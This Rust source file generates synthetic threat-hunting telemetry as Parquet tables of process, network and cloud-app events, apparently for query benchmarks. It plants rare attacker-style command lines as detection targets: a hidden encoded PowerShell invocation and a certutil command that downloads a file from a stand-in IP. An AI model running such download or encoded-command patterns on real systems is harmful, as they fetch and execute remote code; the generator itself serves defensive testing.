//! Event tables in the hunting schema, as Parquet files: the same bytes for the same number of rows.
//!
//! The distributions are those of real telemetry in what queries feel: few file names make most of the events,
//! command lines repeat with small differences, a handful of devices is far busier than the rest, times ascend. Needles
//! are planted at known rates: an encoded command in one of 5,000 processes, `certutil` in one of 20,000, one file hash in 1,000,000.

use std::fmt::Write as _;
use std::fs::File;
use std::path::Path;
use std::sync::Arc;

use anyhow::{Context as _, Result};
use arrow::array::{ArrayRef, Int32Array, Int64Array, RecordBatch, StringArray, TimestampMicrosecondArray};
use parquet::arrow::ArrowWriter;
use parquet::basic::{Compression, ZstdLevel};
use parquet::file::properties::WriterProperties;

/// 2026-06-01T00:00:00Z in microseconds since 1970.
pub(crate) const START: i64 = 1_780_272_000_000_000;
const MONTH: i64 = 30 * 86_400 * 1_000_000;
const DEVICES: u64 = 20_000;
/// Rows of a row group, and of a batch on the way there.
const GROUP: u64 = 1 << 20;
pub(crate) const BATCH: u64 = 1 << 16;

/// Rows of a table, by the number of process events.
type Share = fn(u64) -> u64;

/// Rows of each table when there are `rows` process events.
pub(crate) const TABLES: [(&str, Share); 3] = [
    ("DeviceProcessEvents", |rows| rows),
    ("DeviceNetworkEvents", |rows| rows / 2),
    ("CloudAppEvents", |rows| rows / 10),
];

/// The rows of a table from one number to another, of so many in all.
pub(crate) fn batch(table: &str, from: u64, to: u64, total: u64) -> Result<RecordBatch> {
    match table {
        "DeviceProcessEvents" => process_events(from, to, total),
        "DeviceNetworkEvents" => network_events(from, to, total),
        _ => cloud_app_events(from, to, total),
    }
}

/// Writes the tables below a folder, one file each, unless they are there.
pub(crate) fn write(folder: &Path, rows: u64) -> Result<()> {
    std::fs::create_dir_all(folder)?;
    for (table, share) in TABLES {
        let path = folder.join(format!("{table}.parquet"));
        if path.exists() {
            continue;
        }
        // Half a file is none: it gets its name when it is whole.
        let unfinished = path.with_extension("unfinished");
        let total = share(rows);
        let properties = WriterProperties::builder()
            .set_compression(Compression::ZSTD(ZstdLevel::try_new(1)?))
            .set_max_row_group_row_count(Some(usize::try_from(GROUP)?))
            .build();
        let file = File::create(&unfinished).with_context(|| unfinished.display().to_string())?;
        let first = batch(table, 0, 0, total)?;
        let mut writer = ArrowWriter::try_new(file, first.schema(), Some(properties))?;
        let mut at = 0;
        while at < total {
            let end = (at + BATCH).min(total);
            writer.write(&batch(table, at, end, total)?)?;
            at = end;
        }
        writer.close()?;
        std::fs::rename(&unfinished, &path)?;
    }
    Ok(())
}

/// Random numbers that depend on the row and on what they are for, and on nothing else.
struct Dice(u64);

impl Dice {
    fn new(table: u64, row: u64) -> Self {
        Self(row.wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ table.wrapping_mul(0xd1b5_4a32_d192_ed03))
    }

    /// The generator that is known as `SplitMix64`.
    fn roll(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, bound: u64) -> u64 {
        self.roll() % bound
    }

    /// Small numbers far more often than large ones.
    fn skewed(&mut self, bound: u64) -> u64 {
        let a = self.below(bound);
        let b = self.below(bound);
        let c = self.below(bound);
        a.min(b).min(c)
    }

    fn one_in(&mut self, rate: u64) -> bool {
        self.below(rate) == 0
    }

    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        let bound = from.len() as u64;
        from[usize::try_from(self.skewed(bound)).unwrap_or(0)]
    }
}

const FILES: [&str; 24] = [
    "svchost.exe",
    "conhost.exe",
    "chrome.exe",
    "powershell.exe",
    "cmd.exe",
    "RuntimeBroker.exe",
    "msedge.exe",
    "backgroundTaskHost.exe",
    "SearchIndexer.exe",
    "taskhostw.exe",
    "MsSense.exe",
    "OUTLOOK.EXE",
    "WINWORD.EXE",
    "EXCEL.EXE",
    "Teams.exe",
    "rundll32.exe",
    "reg.exe",
    "schtasks.exe",
    "wmic.exe",
    "net.exe",
    "python.exe",
    "node.exe",
    "git.exe",
    "certutil.exe",
];
const PARENTS: [&str; 12] = [
    "services.exe",
    "explorer.exe",
    "svchost.exe",
    "cmd.exe",
    "powershell.exe",
    "winword.exe",
    "outlook.exe",
    "chrome.exe",
    "wininit.exe",
    "userinit.exe",
    "taskeng.exe",
    "w3wp.exe",
];
const FOLDERS: [&str; 8] = [
    "C:\\Windows\\System32\\",
    "C:\\Program Files\\Google\\Chrome\\Application\\",
    "C:\\Windows\\SysWOW64\\",
    "C:\\Program Files (x86)\\Microsoft Office\\root\\Office16\\",
    "C:\\Users\\Public\\Downloads\\",
    "C:\\ProgramData\\Agents\\bin\\",
    "C:\\Windows\\system32\\WindowsPowerShell\\v1.0\\",
    "D:\\tools\\",
];
const ACTIONS: [&str; 3] = ["ProcessCreated", "OpenProcess", "ProcessPrimaryTokenModified"];
const HASH: &str = "0c0ffee0c0ffee0c0ffee0c0ffee0c0ffee0c0ffee0c0ffee0c0ffee0c0ffee0";
const BASE64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

fn device(dice: &mut Dice) -> u64 {
    dice.skewed(DEVICES)
}

fn device_id(device: u64) -> String {
    format!("{:016x}{:016x}{:08x}", Dice::new(9, device).roll(), Dice::new(10, device).roll(), device)
}

fn device_name(device: u64) -> String {
    format!("ws-{device:05}.corp.example")
}

fn hexadecimal(dice: &mut Dice, digits: usize) -> String {
    let mut text = String::with_capacity(digits + 16);
    while text.len() < digits {
        let _infallible = write!(text, "{:016x}", dice.roll());
    }
    text.truncate(digits);
    text
}

/// The hash of a program: one for each name and version, of which there are not many.
fn program_hash(file: &str, version: u64) -> String {
    let seed = file.bytes().fold(version, |seed, byte| seed.wrapping_mul(31).wrapping_add(u64::from(byte)));
    hexadecimal(&mut Dice::new(11, seed), 64)
}

fn time(row: u64, total: u64) -> i64 {
    let step = MONTH / i64::try_from(total.max(1)).unwrap_or(i64::MAX).max(1);
    START + i64::try_from(row).unwrap_or(0) * step
}

fn command_line(dice: &mut Dice, folder: &str, file: &str) -> String {
    let mut line = format!("\"{folder}{file}\" ");
    if dice.one_in(5_000) {
        line.push_str(if dice.one_in(2) {
            "-NoProfile -EncodedCommand "
        } else {
            "-nop -w hidden -encodedcommand "
        });
        for _ in 0..60 + dice.below(80) {
            line.push(char::from(BASE64[usize::try_from(dice.below(64)).unwrap_or(0)]));
        }
        return line;
    }
    if dice.one_in(20_000) {
        let _infallible =
            write!(line, "& certutil -urlcache -split -f http://198.51.100.{}/a.bin", dice.below(256));
        return line;
    }
    let _infallible = match dice.below(8) {
        0 => write!(line, "-k netsvcs -p -s Schedule{}", dice.below(40)),
        1 => write!(
            line,
            "--type=renderer --field-trial-handle={},{}",
            dice.below(9_999),
            hexadecimal(dice, 16)
        ),
        2 => write!(line, "/c schtasks /query /tn \\Maintenance\\Task{} /fo LIST", dice.below(300)),
        3 => write!(line, "-ExecutionPolicy Bypass -File \"C:\\ops\\jobs\\job-{}.ps1\"", dice.below(2_000)),
        4 => write!(line, "0xffffffff -ForceV1 {}", dice.below(100)),
        5 => write!(
            line,
            "add HKLM\\Software\\Example\\Key{} /v Value /t REG_SZ /d {} /f",
            dice.below(50),
            dice.below(999)
        ),
        6 => write!(
            line,
            "--profile {} --port {} --log-level warn --session {}",
            dice.below(90),
            dice.below(65_535),
            hexadecimal(dice, 24)
        ),
        _ => write!(line, "-Embedding {}", hexadecimal(dice, 12)),
    };
    line
}

fn strings(values: impl Iterator<Item = String>) -> ArrayRef {
    Arc::new(StringArray::from_iter_values(values))
}

fn times(from: u64, to: u64, total: u64) -> ArrayRef {
    Arc::new(TimestampMicrosecondArray::from_iter_values((from..to).map(|row| time(row, total))))
}

fn process_events(from: u64, to: u64, total: u64) -> Result<RecordBatch> {
    struct Row {
        device: u64,
        action: &'static str,
        file: &'static str,
        folder: &'static str,
        line: String,
        hash: String,
        size: i64,
        id: i64,
        account: u64,
        parent: &'static str,
        parent_id: i64,
    }
    let rows: Vec<Row> = (from..to)
        .map(|row| {
            let mut dice = Dice::new(1, row);
            let device = device(&mut dice);
            let file = dice.pick(&FILES);
            let folder = dice.pick(&FOLDERS);
            let version = dice.below(20);
            Row {
                device,
                action: dice.pick(&ACTIONS),
                file,
                folder,
                line: command_line(&mut dice, folder, file),
                hash: if dice.one_in(1_000_000) { HASH.to_owned() } else { program_hash(file, version) },
                size: i64::try_from(10_000 + dice.below(90_000_000)).unwrap_or(0),
                id: i64::try_from(4 * (1 + dice.below(8_000))).unwrap_or(0),
                account: dice.skewed(5_000),
                parent: dice.pick(&PARENTS),
                parent_id: i64::try_from(4 * (1 + dice.below(8_000))).unwrap_or(0),
            }
        })
        .collect();
    let numbers = |value: fn(&Row) -> i64| -> ArrayRef {
        Arc::new(Int64Array::from_iter_values(rows.iter().map(value)))
    };
    let columns: Vec<(&str, ArrayRef)> = vec![
        ("Timestamp", times(from, to, total)),
        ("DeviceId", strings(rows.iter().map(|row| device_id(row.device)))),
        ("DeviceName", strings(rows.iter().map(|row| device_name(row.device)))),
        ("ActionType", strings(rows.iter().map(|row| row.action.to_owned()))),
        ("FileName", strings(rows.iter().map(|row| row.file.to_owned()))),
        ("FolderPath", strings(rows.iter().map(|row| format!("{}{}", row.folder, row.file)))),
        ("SHA256", strings(rows.iter().map(|row| row.hash.clone()))),
        ("FileSize", numbers(|row| row.size)),
        ("ProcessId", numbers(|row| row.id)),
        ("ProcessCommandLine", strings(rows.iter().map(|row| row.line.clone()))),
        ("AccountDomain", strings(rows.iter().map(|_| "corp".to_owned()))),
        ("AccountName", strings(rows.iter().map(|row| format!("user{:04}", row.account)))),
        ("InitiatingProcessFileName", strings(rows.iter().map(|row| row.parent.to_owned()))),
        (
            "InitiatingProcessCommandLine",
            strings(rows.iter().map(|row| format!("\"C:\\Windows\\{}\" -s {}", row.parent, row.parent_id))),
        ),
        ("InitiatingProcessId", numbers(|row| row.parent_id)),
        (
            "ReportId",
            Arc::new(Int64Array::from_iter_values((from..to).map(|row| i64::try_from(row).unwrap_or(0)))),
        ),
    ];
    Ok(RecordBatch::try_from_iter(columns)?)
}

fn network_events(from: u64, to: u64, total: u64) -> Result<RecordBatch> {
    const PORTS: [i32; 8] = [443, 80, 53, 8080, 22, 445, 3389, 123];
    const DOMAINS: [&str; 8] = [
        "example.com",
        "example.net",
        "example.org",
        "cdn.test",
        "updates.test",
        "mail.test",
        "files.test",
        "api.test",
    ];
    struct Row {
        device: u64,
        action: &'static str,
        ip: String,
        port: i32,
        url: String,
        process: i64,
        file: &'static str,
    }
    let rows: Vec<Row> = (from..to)
        .map(|row| {
            let mut dice = Dice::new(2, row);
            let device = device(&mut dice);
            let port =
                if dice.one_in(50_000) { 4444 } else { PORTS[usize::try_from(dice.skewed(8)).unwrap_or(0)] };
            let url = match dice.below(3) {
                0 => String::new(),
                _ => format!("h{}.{}", dice.below(5_000), dice.pick(&DOMAINS)),
            };
            Row {
                device,
                action: if dice.one_in(5) { "ConnectionFailed" } else { "ConnectionSuccess" },
                ip: format!("203.0.{}.{}", dice.below(256), dice.below(256)),
                port,
                url,
                process: i64::try_from(4 * (1 + dice.below(8_000))).unwrap_or(0),
                file: dice.pick(&FILES),
            }
        })
        .collect();
    let columns: Vec<(&str, ArrayRef)> = vec![
        ("Timestamp", times(from, to, total)),
        ("DeviceId", strings(rows.iter().map(|row| device_id(row.device)))),
        ("DeviceName", strings(rows.iter().map(|row| device_name(row.device)))),
        ("ActionType", strings(rows.iter().map(|row| row.action.to_owned()))),
        ("RemoteIP", strings(rows.iter().map(|row| row.ip.clone()))),
        ("RemotePort", Arc::new(Int32Array::from_iter_values(rows.iter().map(|row| row.port)))),
        ("RemoteUrl", strings(rows.iter().map(|row| row.url.clone()))),
        ("InitiatingProcessFileName", strings(rows.iter().map(|row| row.file.to_owned()))),
        ("InitiatingProcessId", Arc::new(Int64Array::from_iter_values(rows.iter().map(|row| row.process)))),
        (
            "ReportId",
            Arc::new(Int64Array::from_iter_values((from..to).map(|row| i64::try_from(row).unwrap_or(0)))),
        ),
    ];
    Ok(RecordBatch::try_from_iter(columns)?)
}

fn cloud_app_events(from: u64, to: u64, total: u64) -> Result<RecordBatch> {
    const OPERATIONS: [&str; 8] = [
        "MailItemsAccessed",
        "FileDownloaded",
        "UserLoggedIn",
        "Send",
        "FileModified",
        "Update user.",
        "MoveToDeletedItems",
        "New-InboxRule",
    ];
    const NAMES: [&str; 5] = ["Identity", "Name", "MoveToFolder", "From", "DeleteMessage"];
    struct Row {
        operation: &'static str,
        user: u64,
        event: String,
    }
    let rows: Vec<Row> = (from..to)
        .map(|row| {
            let mut dice = Dice::new(3, row);
            let operation = dice.pick(&OPERATIONS);
            let user = dice.skewed(5_000);
            let mut event = format!(
                "{{\"CreationTime\":\"2026-06-{:02}T10:00:00\",\"Id\":\"{}\",\"Operation\":\"{operation}\",\"OrganizationId\":\"{}\",\
                 \"RecordType\":{},\"UserKey\":\"user{user:04}@corp.example\",\"ClientIP\":\"203.0.{}.{}\",\"Parameters\":[",
                1 + dice.below(30),
                hexadecimal(&mut dice, 32),
                hexadecimal(&mut dice, 32),
                dice.below(100),
                dice.below(16),
                dice.below(256),
            );
            for index in 0..dice.below(5) {
                let name = NAMES[usize::try_from(index).unwrap_or(0)];
                let comma = if index > 0 { "," } else { "" };
                let _infallible = write!(event, "{comma}{{\"Name\":\"{name}\",\"Value\":\"v{}\"}}", dice.below(1_000));
            }
            let _infallible = write!(
                event,
                "],\"AppAccessContext\":{{\"AADSessionId\":\"{}\",\"CorrelationId\":\"{}\"}},\"ResultStatus\":\"Succeeded\"}}",
                hexadecimal(&mut dice, 32),
                hexadecimal(&mut dice, 32),
            );
            Row { operation, user, event }
        })
        .collect();
    let columns: Vec<(&str, ArrayRef)> = vec![
        ("Timestamp", times(from, to, total)),
        ("ActionType", strings(rows.iter().map(|row| row.operation.to_owned()))),
        ("Application", strings(rows.iter().map(|_| "Example 365".to_owned()))),
        ("AccountDisplayName", strings(rows.iter().map(|row| format!("user{:04}", row.user)))),
        ("RawEventData", strings(rows.into_iter().map(|row| row.event))),
    ];
    Ok(RecordBatch::try_from_iter(columns)?)
}
